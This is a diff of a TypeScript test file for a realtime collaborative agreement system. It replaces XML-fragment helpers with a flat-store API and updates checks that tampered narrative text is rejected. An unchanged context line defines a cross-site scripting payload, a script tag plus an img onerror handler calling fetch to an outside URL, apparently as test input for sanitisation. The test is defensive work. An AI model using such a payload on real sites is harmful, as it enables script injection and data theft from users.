@@ -2,6 +2,7 @@ import { afterEach, beforeAll, describe, expect, it } from "vitest";
 import * as encoding from "lib0/encoding";
 import * as syncProtocol from "y-protocols/sync";
 import * as Y from "yjs";
+import { appendParagraphs, flatField, readFlat } from "~/realtime/flat-store";
 import { hashContent } from "~/models/agreement-workflow.server";
 import { CollabClose } from "~/realtime/protocol";
 import { getDb } from "~/utils/db.server";
@@ -18,10 +19,7 @@ const SCRIPT = `<script>window.pwned=1</script><img src=x onerror="fetch('https:
 const PATH = "M10 20 L30 40 L55.5 60 M100 100 L120 90";
 
 function writeNarrative(peer: TestPeer, text: string) {
-  const fragment = peer.doc.getXmlFragment("narrative");
-  const p = new Y.XmlElement("paragraph");
-  p.insert(0, [new Y.XmlText(text)]);
-  fragment.insert(fragment.length, [p]);
+  appendParagraphs(flatField(peer.doc, "narrative"), [text]);
 }
 
 
@@ -170,8 +168,8 @@ describe("outcome agreements: frozen versions, signatures, review and tampering"
     syncProtocol.writeSyncStep1(encoder, leadPeer.doc);
     leadPeer.provider.ws!.send(encoding.toUint8Array(encoder));
     await waitFor(() => leadPeer.provider.synced, 10_000, "server answered after the write");
-    expect(supPeer.doc.getXmlFragment("narrative").toString()).not.toContain("Tampered");
-    expect(storedDoc(`agreement:${agreementId}`).getXmlFragment("narrative").toString()).not.toContain("Tampered");
+    expect(readFlat(flatField(supPeer.doc, "narrative")).text).not.toContain("Tampered");
+    expect(readFlat(flatField(storedDoc(`agreement:${agreementId}`), "narrative")).text).not.toContain("Tampered");
     expect(allSaved(leadPeer)).toBe(false);
     // …and the attempt is audited (once per connection, not per keystroke).
     await waitFor(
